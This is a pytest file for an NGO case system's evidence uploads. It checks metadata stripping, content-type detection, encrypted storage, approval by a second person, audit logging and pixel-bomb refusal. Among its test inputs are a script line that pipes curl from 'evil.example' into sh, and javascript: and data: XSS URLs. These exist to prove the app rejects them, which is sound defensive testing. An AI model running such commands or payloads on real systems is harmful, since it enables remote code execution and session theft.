"""Evidence: type by content, metadata stripped, encrypted on disk, four eyes, audited access.

Every file here is a real one, made by Pillow, pypdf or by hand, and goes through the same code
as a browser upload.
"""

from __future__ import annotations

import io
import json
import re
import stat
from datetime import date, timedelta
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from PIL import Image, ImageCms, PngImagePlugin
from pypdf import PdfReader
from sqlalchemy import func, select, text

from ngo.accounts import policy
from ngo.accounts.models import User
from ngo.audit import AuditEvent
from ngo.cases import evidence
from ngo.cases.errors import CaseError
from ngo.cases.models import Beneficiary, EvidenceItem, EvidenceKind
from ngo.crypto import decrypt_bytes
from ngo.extensions import db
from ngo.timeutil import utcnow
from tests import factories, image_bombs
from tests.conftest import login
from tests.image_bombs import PixelsDecoded, bomb_jpeg, bomb_png

no_decoding, pillow_limit_restored = image_bombs.no_decoding, image_bombs.pillow_limit_restored

# Personal values that must never reach the audit log, a URL or a header.
SECRET_TITLE = "Verdict against Ivan Petrov"
SECRET_FILENAME = "ivan_petrov_verdict.jpg"
GPS_IFD = 0x8825
MAKE = 0x010F
ORIENTATION = 0x0112


# Real files ------------------------------------------------------------------------------


def jpeg_with_gps() -> bytes:
    """A 40x30 photo taken 'rotated' (orientation 6) with position, camera, XMP, ICC, comment."""
    exif = Image.Exif()
    exif[MAKE] = "SecretCam"
    exif[ORIENTATION] = 6
    exif[GPS_IFD] = {1: "N", 2: (52.0, 13.0, 30.0), 3: "E", 4: (23.0, 9.0, 0.0)}
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 10, 10)).save(
        out,
        "JPEG",
        exif=exif,
        icc_profile=icc,
        comment=b"Ivan Petrov at home",
        xmp=b"<x:xmpmeta>Ivan Petrov</x:xmpmeta>",
    )
    data = out.getvalue()
    with Image.open(io.BytesIO(data)) as check:  # the test file really carries it all
        assert check.getexif().get_ifd(GPS_IFD)[2] == (52.0, 13.0, 30.0)
        assert {"exif", "xmp", "icc_profile", "comment"} <= set(check.info)
    return data


def png_with_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Ivan Petrov")
    info.add_text("Comment", "Taken at 52.2N 23.1E")
    exif = Image.Exif()
    exif[MAKE] = "SecretCam"
    out = io.BytesIO()
    Image.new("RGBA", (20, 10), (0, 128, 0, 200)).save(out, "PNG", pnginfo=info, exif=exif)
    data = out.getvalue()
    assert b"tEXt" in data and b"Ivan Petrov" in data
    return data


def pdf_bytes() -> bytes:
    return factories.blank_pdf(title="Court verdict")


def noise_png(side: int) -> bytes:
    """Incompressible pixels: a PNG of about 3 * side**2 bytes."""
    out = io.BytesIO()
    Image.frombytes("RGB", (side, side), bytes(range(256)) * (3 * side * side // 256 + 1)).save(
        out, "PNG", compress_level=0
    )
    return out.getvalue()


EXECUTABLES = {
    "windows": b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200,
    "elf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200,
    "script": b"#!/bin/sh\ncurl http://evil.example | sh\n",
}


# Fixtures and helpers --------------------------------------------------------------------


@pytest.fixture
def case(organisation: factories.Organisation) -> Beneficiary:
    return factories.BeneficiaryFactory(organisation=organisation)


@pytest.fixture
def caseworker(make_user) -> User:
    return make_user("caseworker")


@pytest.fixture
def verifier(make_user) -> User:
    return make_user("verifier")


def stored_files(app: Flask) -> list[Path]:
    root = Path(app.config["NGO_FILES_PATH"])
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def item_count() -> int:
    return db.session.scalar(select(func.count()).select_from(EvidenceItem))


def upload(
    client: FlaskClient,
    case: Beneficiary,
    data: bytes,
    filename: str = "scan.pdf",
    *,
    title: str = "Court verdict",
    kind: str = "court_verdict",
    browser_type: str = "application/octet-stream",
):
    return client.post(
        f"/cases/{case.reference}/evidence",
        data={
            "upload-kind": kind,
            "upload-title": title,
            "upload-file": (io.BytesIO(data), filename, browser_type),
        },
        content_type="multipart/form-data",
    )


def only_item() -> EvidenceItem:
    db.session.expire_all()
    items = db.session.scalars(select(EvidenceItem)).all()
    assert len(items) == 1
    return items[0]


def audit_actions() -> list[str]:
    return list(db.session.scalars(select(AuditEvent.action).order_by(AuditEvent.seq)))


def text_of(response) -> str:
    return response.get_data(as_text=True)


# Content checks (service) ----------------------------------------------------------------


def test_jpeg_loses_gps_camera_and_all_metadata(app: Flask, case, caseworker) -> None:
    item = evidence.upload_evidence(
        case,
        kind=EvidenceKind.IDENTITY_DOCUMENT,
        title="Passport",
        data=jpeg_with_gps(),
        filename="IMG_0001.jpg",
        actor=caseworker,
    )
    db.session.commit()
    assert item.content_type == "image/jpeg"
    stored = evidence.read_evidence_file(item)
    with Image.open(io.BytesIO(stored)) as image:
        assert image.format == "JPEG"
        assert len(image.getexif()) == 0
        assert image.getexif().get_ifd(GPS_IFD) == {}
        assert not {"exif", "xmp", "icc_profile", "comment"} & set(image.info)
        # The orientation was applied to the pixels before the tag went.
        assert image.size == (30, 40)
        red, green, blue = image.getpixel((15, 20))
        assert red > 150 and green < 60 and blue < 60
    assert b"SecretCam" not in stored and b"Ivan" not in stored
    assert item.size_bytes == len(stored)


def test_png_loses_text_chunks_and_exif(app: Flask, case, caseworker) -> None:
    item = evidence.upload_evidence(
        case,
        kind=EvidenceKind.OTHER,
        title="Photo",
        data=png_with_text(),
        filename="photo.png",
        actor=caseworker,
    )
    stored = evidence.read_evidence_file(item)
    with Image.open(io.BytesIO(stored)) as image:
        assert image.format == "PNG"
        assert image.info == {}
        assert len(image.getexif()) == 0
        assert image.mode == "RGBA"
        assert image.getpixel((0, 0)) == (0, 128, 0, 200)
    for chunk in (b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"Ivan Petrov", b"SecretCam"):
        assert chunk not in stored


def test_phone_multi_picture_jpeg_is_accepted(app: Flask, case, caseworker) -> None:
    exif = Image.Exif()
    exif[GPS_IFD] = {1: "N", 2: (52.0, 13.0, 30.0)}
    frames = [Image.new("RGB", (16, 16), colour) for colour in ("blue", "white")]
    out = io.BytesIO()
    frames[0].save(out, "MPO", save_all=True, append_images=frames[1:], exif=exif)
    with Image.open(io.BytesIO(out.getvalue())) as check:
        assert check.format == "MPO"
    item = evidence.upload_evidence(
        case,
        kind=EvidenceKind.OTHER,
        title="Phone photo",
        data=out.getvalue(),
        filename="IMG_0002.JPG",
        actor=caseworker,
    )
    assert item.content_type == "image/jpeg"
    with Image.open(io.BytesIO(evidence.read_evidence_file(item))) as image:
        assert image.format == "JPEG"
        assert image.getexif().get_ifd(GPS_IFD) == {}
        assert getattr(image, "n_frames", 1) == 1


def test_pdf_is_kept_byte_for_byte(app: Flask, case, caseworker) -> None:
    data = pdf_bytes()
    item = evidence.upload_evidence(
        case,
        kind=EvidenceKind.COURT_VERDICT,
        title="Verdict",
        data=data,
        filename="verdict.pdf",
        actor=caseworker,
    )
    assert item.content_type == "application/pdf"
    assert evidence.read_evidence_file(item) == data


def test_weasyprint_pdf_is_accepted(app: Flask, case, caseworker) -> None:
    from weasyprint import HTML

    data = HTML(string="<h1>Release certificate</h1>").write_pdf()
    item = evidence.upload_evidence(
        case,
        kind=EvidenceKind.RELEASE_CERTIFICATE,
        title="Release",
        data=data,
        filename="release.pdf",
        actor=caseworker,
    )
    assert len(PdfReader(io.BytesIO(evidence.read_evidence_file(item))).pages) == 1


def test_pdf_named_jpg_is_stored_as_pdf(app: Flask, case, caseworker) -> None:
    item = evidence.upload_evidence(
        case,
        kind=EvidenceKind.COURT_VERDICT,
        title="Verdict",
        data=pdf_bytes(),
        filename="photo.jpg",
        actor=caseworker,
    )
    assert item.content_type == "application/pdf"
    assert evidence.download_name(item) == f"evidence-{item.id}.pdf"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (EXECUTABLES["windows"], "Only PDF, JPEG and PNG files are accepted."),
        (EXECUTABLES["elf"], "Only PDF, JPEG and PNG files are accepted."),
        (EXECUTABLES["script"], "Only PDF, JPEG and PNG files are accepted."),
        (b"Ivan Petrov, born 1980, Minsk\n", "Only PDF, JPEG and PNG files are accepted."),
        (b"GIF89a" + b"\x00" * 50, "Only PDF, JPEG and PNG files are accepted."),
        (b"", "The file is empty."),
        (b"%PDF-1.7\nnot really a pdf", "This PDF is damaged and cannot be read."),
        (b"\xff\xd8\xff\xe0" + b"\x00" * 100, "This image is damaged and cannot be read."),
        (png_with_text()[:60], "This image is damaged and cannot be read."),
    ],
    ids=["exe", "elf", "script", "text", "gif", "empty", "fake-pdf", "fake-jpeg", "cut-png"],
)
def test_refused_content_leaves_nothing(
    app: Flask, case, caseworker, data: bytes, message: str
) -> None:
    with pytest.raises(CaseError) as refused:
        evidence.upload_evidence(
            case,
            kind=EvidenceKind.COURT_VERDICT,
            title="Verdict",
            data=data,
            filename="verdict.pdf",
            actor=caseworker,
        )
    db.session.rollback()
    assert str(refused.value.message) == message
    assert refused.value.field == "file"
    assert item_count() == 0
    assert stored_files(app) == []


def test_password_protected_pdf_is_refused(app: Flask, case, caseworker) -> None:
    encrypted = factories.blank_pdf(width=100, height=100, password="secret")
    with pytest.raises(CaseError, match="password"):
        evidence.upload_evidence(
            case,
            kind=EvidenceKind.COURT_VERDICT,
            title="Verdict",
            data=encrypted,
            filename="v.pdf",
            actor=caseworker,
        )


def test_default_limit_is_20_mb(app: Flask, case, caseworker) -> None:
    assert app.config["EVIDENCE_MAX_BYTES"] == 20 * 1024 * 1024
    just_over = b"%PDF-" + b"0" * (20 * 1024 * 1024 - 4)
    with pytest.raises(CaseError) as refused:
        evidence.upload_evidence(
            case,
            kind=EvidenceKind.OTHER,
            title="Big",
            data=just_over,
            filename="big.pdf",
            actor=caseworker,
        )
    assert str(refused.value.message) == "The file is larger than 20 MB."
    assert item_count() == 0
    assert stored_files(app) == []


def test_title_is_required(app: Flask, case, caseworker) -> None:
    with pytest.raises(CaseError) as refused:
        evidence.upload_evidence(
            case,
            kind=EvidenceKind.OTHER,
            title="  ",
            data=pdf_bytes(),
            filename="x.pdf",
            actor=caseworker,
        )
    assert refused.value.field == "title"
    assert stored_files(app) == []


def test_erased_case_takes_no_evidence(app: Flask, case, caseworker) -> None:
    case.erased_at = utcnow()
    db.session.commit()
    with pytest.raises(CaseError):
        evidence.upload_evidence(
            case,
            kind=EvidenceKind.OTHER,
            title="Late",
            data=pdf_bytes(),
            filename="x.pdf",
            actor=caseworker,
        )
    assert stored_files(app) == []


# Storage ---------------------------------------------------------------------------------


def test_file_on_disk_is_ciphertext_private_and_complete(app: Flask, case, caseworker) -> None:
    data = pdf_bytes()
    item = evidence.upload_evidence(
        case,
        kind=EvidenceKind.COURT_VERDICT,
        title=SECRET_TITLE,
        data=data,
        filename=SECRET_FILENAME,
        actor=caseworker,
    )
    db.session.commit()
    (path,) = stored_files(app)
    assert path.name == item.storage_key
    assert re.fullmatch(r"[0-9a-f]{32}", item.storage_key)
    raw = path.read_bytes()
    assert b"%PDF" not in raw and b"\xff\xd8\xff" not in raw
    assert decrypt_bytes(raw) == data
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert not list(path.parent.glob("*.part"))
    # Title and original name are encrypted in the database too.
    raw_row = db.session.execute(text("SELECT title, original_filename FROM evidence_items")).one()
    assert all(b"Ivan" not in bytes(value) for value in raw_row)
    assert item.original_filename == SECRET_FILENAME
    assert item.uploaded_by_id == caseworker.id


def test_rolled_back_upload_leaves_no_file(app: Flask, case, caseworker) -> None:
    evidence.upload_evidence(
        case,
        kind=EvidenceKind.OTHER,
        title="Draft",
        data=pdf_bytes(),
        filename="x.pdf",
        actor=caseworker,
    )
    assert len(stored_files(app)) == 1
    db.session.rollback()
    assert stored_files(app) == []
    assert item_count() == 0


def test_destroy_removes_the_file(app: Flask, case, caseworker) -> None:
    item = evidence.upload_evidence(
        case,
        kind=EvidenceKind.OTHER,
        title="Doc",
        data=pdf_bytes(),
        filename="x.pdf",
        actor=caseworker,
    )
    db.session.commit()
    evidence.destroy_evidence_file(item, actor=caseworker)
    db.session.commit()
    assert stored_files(app) == []
    assert item.destroyed_at is not None
    assert item.original_filename is None
    with pytest.raises(evidence.EvidenceFileMissing):
        evidence.read_evidence_file(item)
    assert "evidence.destroyed" in audit_actions()


def test_evidence_of_lists_only_this_case(app: Flask, organisation, case, caseworker) -> None:
    other = factories.BeneficiaryFactory(organisation=organisation)
    mine = evidence.upload_evidence(
        case, kind=EvidenceKind.OTHER, title="A", data=pdf_bytes(), filename="", actor=caseworker
    )
    evidence.upload_evidence(
        other, kind=EvidenceKind.OTHER, title="B", data=pdf_bytes(), filename="", actor=caseworker
    )
    assert evidence.evidence_of(case) == [mine]


def test_format_size() -> None:
    assert evidence.format_size(20 * 1024 * 1024) == "20 MB"
    assert evidence.format_size(1536 * 1024) == "1.5 MB"
    assert evidence.format_size(2048) == "2 KB"
    assert evidence.format_size(100) == "100 B"


# Four eyes -------------------------------------------------------------------------------


def test_uploader_cannot_check_own_upload(app: Flask, case, admin, verifier) -> None:
    item = evidence.upload_evidence(
        case, kind=EvidenceKind.OTHER, title="A", data=pdf_bytes(), filename="", actor=admin
    )
    with pytest.raises(CaseError) as refused:
        evidence.mark_checked(item, actor=admin)
    # The one four-eyes rule decides, and its reason is what the person reads.
    assert refused.value.message == policy.four_eyes_refusal(admin.id, authors=[admin.id])
    assert evidence.check_refusal(item, admin) == refused.value.message
    assert evidence.check_refusal(item, verifier) is None
    assert item.checked_at is None
    evidence.mark_checked(item, actor=verifier)
    assert item.checked_by_id == verifier.id and item.checked_at is not None


def test_check_through_the_tab(client: FlaskClient, app: Flask, case, admin, verifier) -> None:
    login(client, admin)
    assert upload(client, case, pdf_bytes()).status_code == 302
    item = only_item()
    own = client.post(f"/cases/{case.reference}/evidence/{item.id}/check")
    assert own.status_code == 400
    assert "You are its author: a second person has to approve it." in text_of(own)
    assert only_item().checked_at is None
    page = text_of(client.get(f"/cases/{case.reference}/evidence"))
    assert "Mark as checked" not in page  # the uploader sees why instead of the button
    assert "You are its author" in page

    client.post("/logout")
    login(client, verifier)
    page = text_of(client.get(f"/cases/{case.reference}/evidence"))
    assert "Mark as checked" in page
    assert "Upload a document" not in page  # verifiers check, they do not upload
    response = client.post(f"/cases/{case.reference}/evidence/{item.id}/check")
    assert response.status_code == 302
    item = only_item()
    assert item.checked_by_id == verifier.id
    assert "evidence.checked" in audit_actions()


def test_caseworker_cannot_check(client: FlaskClient, case, caseworker, admin) -> None:
    item = evidence.upload_evidence(
        case, kind=EvidenceKind.OTHER, title="A", data=pdf_bytes(), filename="", actor=admin
    )
    db.session.commit()
    login(client, caseworker)
    assert client.post(f"/cases/{case.reference}/evidence/{item.id}/check").status_code == 403


# Listings --------------------------------------------------------------------------------


def test_listing_is_stored(app: Flask, case, caseworker) -> None:
    item = evidence.add_listing(
        case,
        title="Viasna list",
        url="https://prisoners.example.org/person/123",
        listed_on=date.today(),
        actor=caseworker,
    )
    assert item.kind == "human_rights_listing"
    assert item.storage_key is None
    assert item.source_url == "https://prisoners.example.org/person/123"


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.cookie)",
        "JavaScript://example.org/%0Aalert(1)",
        "data:text/html,<script>alert(1)</script>",
        "ftp://example.org/list",
        "//example.org/list",
        "https://",
        "prisoners.example.org",
    ],
)
def test_listing_url_must_be_web_address(app: Flask, case, caseworker, url: str) -> None:
    with pytest.raises(CaseError) as refused:
        evidence.add_listing(case, title="List", url=url, listed_on=date.today(), actor=caseworker)
    assert refused.value.field == "url"


def test_listing_date_not_in_future(app: Flask, case, caseworker) -> None:
    with pytest.raises(CaseError) as refused:
        evidence.add_listing(
            case,
            title="List",
            url="https://example.org/",
            listed_on=date.today() + timedelta(days=1),
            actor=caseworker,
        )
    assert refused.value.field == "listed_on"


def test_listing_through_the_tab(client: FlaskClient, case, caseworker) -> None:
    login(client, caseworker)
    url = f"/cases/{case.reference}/evidence/listing"
    bad = client.post(
        url,
        data={
            "listing-title": "List",
            "listing-url": "javascript:alert(1)",
            "listing-listed_on": date.today().isoformat(),
        },
    )
    assert bad.status_code == 400
    assert "Enter a web address starting with https:// or http://." in text_of(bad)
    future = client.post(
        url,
        data={
            "listing-title": "List",
            "listing-url": "https://example.org/list",
            "listing-listed_on": (date.today() + timedelta(days=3)).isoformat(),
        },
    )
    assert future.status_code == 400
    assert "The date of the listing cannot be in the future." in text_of(future)
    assert item_count() == 0

    good = client.post(
        url,
        data={
            "listing-title": "Political prisoners list",
            "listing-url": "https://example.org/list?id=7",
            "listing-listed_on": "2023-05-01",
        },
    )
    assert good.status_code == 302
    page = text_of(client.get(f"/cases/{case.reference}/evidence"))
    assert 'href="https://example.org/list?id=7"' in page
    assert "Political prisoners list" in page


# Upload through the tab ------------------------------------------------------------------


def test_tab_view_is_audited(client: FlaskClient, case, caseworker) -> None:
    login(client, caseworker)
    response = client.get(f"/cases/{case.reference}/evidence")
    assert response.status_code == 200
    assert 'enctype="multipart/form-data"' in text_of(response)
    event = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "case.personal_data_viewed")
    ).one()
    assert event.details == {"part": "evidence"}
    assert event.object_id == str(case.id)


def test_upload_jpeg_through_the_tab(client: FlaskClient, app: Flask, case, caseworker) -> None:
    login(client, caseworker)
    response = upload(
        client,
        case,
        jpeg_with_gps(),
        SECRET_FILENAME,
        title=SECRET_TITLE,
        kind="identity_document",
        browser_type="application/pdf",  # what the browser claims does not count
    )
    assert response.status_code == 302
    assert response.headers["Location"].endswith(f"/cases/{case.reference}/evidence")
    item = only_item()
    assert item.content_type == "image/jpeg"
    assert item.kind == "identity_document"
    with Image.open(io.BytesIO(evidence.read_evidence_file(item))) as image:
        assert image.getexif().get_ifd(GPS_IFD) == {}
        assert "exif" not in image.info
    page = text_of(client.get(f"/cases/{case.reference}/evidence"))
    assert SECRET_TITLE in page
    assert SECRET_FILENAME not in page  # the original name is never shown or sent
    assert "JPEG" in page


def test_upload_of_a_large_file_passes_the_global_form_limit(
    client: FlaskClient, app: Flask, case, caseworker
) -> None:
    data = noise_png(700)
    assert len(data) > app.config["MAX_CONTENT_LENGTH"]
    login(client, caseworker)
    assert upload(client, case, data, "scan.png").status_code == 302
    assert only_item().content_type == "image/png"
    # Only the upload route has the higher limit.
    response = client.post(
        f"/cases/{case.reference}/evidence/listing",
        data={"listing-title": "x" * (len(data))},
    )
    assert response.status_code == 413


def test_upload_with_csrf_protection_on(client: FlaskClient, app: Flask, case, caseworker) -> None:
    """CSRF protection reads the form before the view runs: the raised limit must already hold."""
    login(client, caseworker)
    app.config["WTF_CSRF_ENABLED"] = True
    page = text_of(client.get(f"/cases/{case.reference}/evidence"))
    token = re.search(r'name="upload-csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    data = noise_png(700)
    response = client.post(
        f"/cases/{case.reference}/evidence",
        data={
            "upload-csrf_token": token,
            "upload-kind": "other",
            "upload-title": "Scan",
            "upload-file": (io.BytesIO(data), "scan.png", "image/png"),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 302
    assert item_count() == 1


@pytest.mark.parametrize(
    ("data", "filename", "message"),
    [
        (EXECUTABLES["windows"], "invoice.pdf", "Only PDF, JPEG and PNG files are accepted."),
        (EXECUTABLES["script"], "verdict.pdf", "Only PDF, JPEG and PNG files are accepted."),
        (b"just some notes", "notes.txt", "Only PDF, JPEG and PNG files are accepted."),
        (b"", "empty.pdf", "The file is empty."),
        (b"", "", "Choose a file."),
    ],
    ids=["exe-as-pdf", "script-as-pdf", "text", "empty", "no-file"],
)
def test_refused_upload_rerenders_tab(
    client: FlaskClient, app: Flask, case, caseworker, data: bytes, filename: str, message: str
) -> None:
    login(client, caseworker)
    response = upload(client, case, data, filename, browser_type="application/pdf")
    assert response.status_code == 400
    assert message in text_of(response)
    assert "Upload a document" in text_of(response)
    assert item_count() == 0
    assert stored_files(app) == []


def test_no_kind_of_document_is_preselected(
    client: FlaskClient, app: Flask, case, caseworker
) -> None:
    login(client, caseworker)
    page = text_of(client.get(f"/cases/{case.reference}/evidence"))
    kind_select = re.search(r'<select[^>]*name="upload-kind".*?</select>', page, re.S).group(0)
    assert "selected" not in kind_select
    assert '<option value="">Choose…</option>' in kind_select
    for data in ({"upload-kind": ""}, {}):
        response = client.post(
            f"/cases/{case.reference}/evidence",
            data={
                **data,
                "upload-title": "Scan",
                "upload-file": (io.BytesIO(pdf_bytes()), "scan.pdf"),
            },
            content_type="multipart/form-data",
        )
        assert response.status_code == 400
        assert "Choose the kind of document." in text_of(response)
    assert item_count() == 0
    assert stored_files(app) == []


def test_missing_title_rerenders_tab(client: FlaskClient, app: Flask, case, caseworker) -> None:
    login(client, caseworker)
    response = upload(client, case, pdf_bytes(), title="")
    assert response.status_code == 400
    assert "Give the document a title." in text_of(response)
    assert stored_files(app) == []


@pytest.mark.parametrize("app_config", [{"EVIDENCE_MAX_BYTES": 2048}])
def test_over_the_limit(client: FlaskClient, app: Flask, case, caseworker) -> None:
    login(client, caseworker)
    slightly_over = pdf_bytes() + b"%" + b"0" * 2048
    response = upload(client, case, slightly_over)
    assert response.status_code == 400
    assert "The file is larger than 2 KB." in text_of(response)
    far_over = noise_png(200)  # beyond the limit and the multipart allowance: refused unread
    assert len(far_over) > 2048 + 64 * 1024
    assert upload(client, case, far_over, "big.png").status_code == 413
    assert item_count() == 0
    assert stored_files(app) == []


# Download --------------------------------------------------------------------------------


def test_download_sends_decrypted_bytes_with_safe_headers(
    client: FlaskClient, case, caseworker, verifier
) -> None:
    data = pdf_bytes()
    item = evidence.upload_evidence(
        case,
        kind=EvidenceKind.COURT_VERDICT,
        title=SECRET_TITLE,
        data=data,
        filename=SECRET_FILENAME,
        actor=caseworker,
    )
    db.session.commit()
    login(client, verifier)
    page = text_of(client.get(f"/cases/{case.reference}/evidence"))
    link = f"/cases/{case.reference}/evidence/{item.id}/download"
    assert f'href="{link}"' in page
    response = client.get(link)
    assert response.status_code == 200
    assert response.data == data
    assert response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="evidence-{item.id}.pdf"'
    )
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "ivan" not in json.dumps(dict(response.headers)).lower()
    event = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "evidence.downloaded")
    ).one()
    assert event.actor_id == verifier.id
    assert event.details == {"evidence_id": item.id}


def test_destroyed_file_is_gone(client: FlaskClient, case, caseworker) -> None:
    item = evidence.upload_evidence(
        case, kind=EvidenceKind.OTHER, title="A", data=pdf_bytes(), filename="", actor=caseworker
    )
    db.session.commit()
    evidence.destroy_evidence_file(item)
    db.session.commit()
    login(client, caseworker)
    assert client.get(f"/cases/{case.reference}/evidence/{item.id}/download").status_code == 410


@pytest.mark.parametrize("role", ["treasurer", "funder"])
def test_finance_roles_see_no_evidence(
    client: FlaskClient, make_user, case, caseworker, role: str
) -> None:
    item = evidence.upload_evidence(
        case, kind=EvidenceKind.OTHER, title="A", data=pdf_bytes(), filename="", actor=caseworker
    )
    db.session.commit()
    login(client, make_user(role))
    base = f"/cases/{case.reference}/evidence"
    assert client.get(base).status_code == 403
    assert client.get(f"{base}/{item.id}/download").status_code == 403
    assert upload(client, case, pdf_bytes()).status_code == 403
    assert client.post(f"{base}/{item.id}/check").status_code == 403
    assert "evidence.downloaded" not in audit_actions()


def test_other_organisation_gets_404(client: FlaskClient, app: Flask, case, caseworker) -> None:
    item = evidence.upload_evidence(
        case, kind=EvidenceKind.OTHER, title="A", data=pdf_bytes(), filename="", actor=caseworker
    )
    db.session.commit()
    outsider_org = factories.OrganisationFactory()
    outsider = factories.UserFactory(role="caseworker", organisation=outsider_org)
    outsiders_case = factories.BeneficiaryFactory(organisation=outsider_org)
    login(client, outsider)
    base = f"/cases/{case.reference}/evidence"
    assert client.get(base).status_code == 404
    assert client.get(f"{base}/{item.id}/download").status_code == 404
    assert upload(client, case, pdf_bytes()).status_code == 404
    # Their own case's URL with our item's id: still 404.
    own = f"/cases/{outsiders_case.reference}/evidence/{item.id}/download"
    assert client.get(own).status_code == 404
    assert len(stored_files(app)) == 1
    assert "evidence.downloaded" not in audit_actions()


def test_item_of_another_case_is_404(client: FlaskClient, organisation, case, caseworker) -> None:
    other = factories.BeneficiaryFactory(organisation=organisation)
    item = evidence.upload_evidence(
        other, kind=EvidenceKind.OTHER, title="A", data=pdf_bytes(), filename="", actor=caseworker
    )
    db.session.commit()
    login(client, caseworker)
    assert client.get(f"/cases/{case.reference}/evidence/{item.id}/download").status_code == 404


# The audit log ----------------------------------------------------------------------------


def test_audit_log_holds_no_title_filename_or_url(
    client: FlaskClient, app: Flask, case, admin, verifier
) -> None:
    login(client, admin)
    upload(client, case, jpeg_with_gps(), SECRET_FILENAME, title=SECRET_TITLE)
    upload(client, case, EXECUTABLES["elf"], "ivan_petrov.pdf", title=SECRET_TITLE)
    client.post(
        f"/cases/{case.reference}/evidence/listing",
        data={
            "listing-title": SECRET_TITLE,
            "listing-url": "https://example.org/ivan-petrov",
            "listing-listed_on": "2024-01-02",
        },
    )
    item = db.session.scalars(
        select(EvidenceItem).where(EvidenceItem.storage_key.is_not(None))
    ).one()
    client.get(f"/cases/{case.reference}/evidence/{item.id}/download")
    client.post("/logout")
    login(client, verifier)
    client.post(f"/cases/{case.reference}/evidence/{item.id}/check")
    db.session.expire_all()
    evidence.destroy_evidence_file(db.session.get(EvidenceItem, item.id), actor=admin)
    db.session.commit()

    events = db.session.scalars(select(AuditEvent)).all()
    actions = {e.action for e in events}
    assert {
        "evidence.uploaded",
        "evidence.listing_added",
        "evidence.downloaded",
        "evidence.checked",
        "evidence.destroyed",
    } <= actions
    uploaded = next(e for e in events if e.action == "evidence.uploaded")
    assert uploaded.details == {"kind": "court_verdict", "content_type": "image/jpeg"}
    dumped = json.dumps([[e.action, e.object_type, e.object_id, e.details] for e in events]).lower()
    for secret in ("ivan", "petrov", "verdict against", ".jpg", "example.org"):
        assert secret not in dumped


def test_uploader_is_told_that_photo_metadata_was_removed(
    client: FlaskClient, case, caseworker
) -> None:
    login(client, caseworker)
    response = upload(client, case, jpeg_with_gps(), "photo.jpg", kind="other", title="Flat")
    assert response.status_code == 302
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "without its hidden data (location, camera, time taken)" in page


# Pixel bombs -----------------------------------------------------------------------------


def png_of(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("L", (width, height), 128).save(out, "PNG")
    return out.getvalue()


@pytest.mark.parametrize("data", [bomb_png(), bomb_jpeg()], ids=["png", "jpeg"])
def test_a_pixel_bomb_is_refused_from_its_header(
    app: Flask, case, caseworker, no_decoding, data: bytes
) -> None:
    """A 9400x9400 image in a few KB took a worker past 900 MB: now it is never decoded."""
    assert len(data) < 20_000
    with pytest.raises(CaseError) as refused:
        evidence.upload_evidence(
            case, kind=EvidenceKind.OTHER, title="Scan", data=data, filename="", actor=caseworker
        )
    assert refused.value.field == "file"
    assert str(refused.value.message) == (
        "This image has too many pixels: at most 40 megapixels are accepted. "
        "Save a smaller copy and upload that."
    )
    assert stored_files(app) == []


SMALL_PNG = png_of(4, 4)  # made before the guard is on


def test_the_guard_of_these_tests_catches_decoding(app: Flask, no_decoding) -> None:
    with Image.open(io.BytesIO(SMALL_PNG)) as image, pytest.raises(PixelsDecoded):
        image.convert("RGB")


def test_a_pixel_bomb_through_the_tab_is_a_form_error(
    client: FlaskClient, app: Flask, case, caseworker, no_decoding
) -> None:
    login(client, caseworker)
    response = upload(client, case, bomb_png(), "scan.png")
    assert response.status_code == 400
    assert "This image has too many pixels" in text_of(response)
    assert item_count() == 0
    assert stored_files(app) == []


@pytest.mark.parametrize("app_config", [{"MAX_IMAGE_PIXELS": 10_000}])
def test_the_pixel_limit_is_a_setting_pillow_keeps_too(
    pillow_limit_restored, app: Flask, case, caseworker
) -> None:
    assert Image.MAX_IMAGE_PIXELS == 10_000
    with pytest.raises(CaseError, match=r"at most 0\.01 megapixels"):
        evidence.upload_evidence(
            case,
            kind=EvidenceKind.OTHER,
            title="Scan",
            data=png_of(101, 100),
            filename="",
            actor=caseworker,
        )
    item = evidence.upload_evidence(
        case,
        kind=EvidenceKind.OTHER,
        title="Scan",
        data=png_of(100, 100),
        filename="",
        actor=caseworker,
    )
    assert item.content_type == "image/png"
    # Any other code opening an image in this process is refused at the same limit.
    with pytest.raises(Image.DecompressionBombWarning):
        Image.open(io.BytesIO(png_of(101, 100)))


@pytest.mark.parametrize("app_config", [{"MAX_IMAGE_PIXELS": 10_000}])
def test_every_picture_of_a_multi_picture_jpeg_is_measured(
    pillow_limit_restored, app: Flask, case, caseworker
) -> None:
    out = io.BytesIO()
    first, second = Image.new("RGB", (100, 100)), Image.new("RGB", (200, 100))
    first.save(out, "MPO", save_all=True, append_images=[second])
    with pytest.raises(CaseError, match="too many pixels"):
        evidence.upload_evidence(
            case,
            kind=EvidenceKind.OTHER,
            title="Photo",
            data=out.getvalue(),
            filename="",
            actor=caseworker,
        )


def test_setting_must_be_a_positive_number(monkeypatch: pytest.MonkeyPatch, tmp_path) -> None:
    from ngo.config import ConfigurationError, load_config

    monkeypatch.setenv("NGO_MAX_IMAGE_PIXELS", "lots")
    with pytest.raises(
        ConfigurationError, match="NGO_MAX_IMAGE_PIXELS must be a whole number of pixels"
    ):
        load_config(str(tmp_path))
    monkeypatch.setenv("NGO_MAX_IMAGE_PIXELS", "25000000")
    assert load_config(str(tmp_path))["MAX_IMAGE_PIXELS"] == 25_000_000


# Body size limit: only for those allowed to upload ----------------------------------------

FIVE_MB = b"%PDF-" + b"0" * (5 * 1024 * 1024)


